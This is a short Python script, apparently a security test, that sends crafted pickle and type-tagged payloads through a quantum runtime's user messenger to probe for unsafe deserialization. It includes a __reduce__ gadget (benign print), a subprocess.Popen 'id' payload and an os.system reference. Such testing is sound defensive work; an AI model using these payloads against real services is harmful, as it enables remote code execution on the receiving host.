import base64
import json
import pickle

from collections import UserDict


class Bomb:
    def __reduce__(self):
        return (print, ("executed on the host",))


def main(backend, user_messenger):
    pickled = base64.b64encode(pickle.dumps(Bomb())).decode()
    for tag in ("pickle", "ndarray", "QuantumCircuit", "builtins.eval", "settings", "__class__"):
        user_messenger.publish({"__type__": tag, "__value__": pickled})
    user_messenger.publish({"__class__": "subprocess.Popen", "args": ["id"]})
    return {"py/object": "os.system", "__reduce__": pickled}
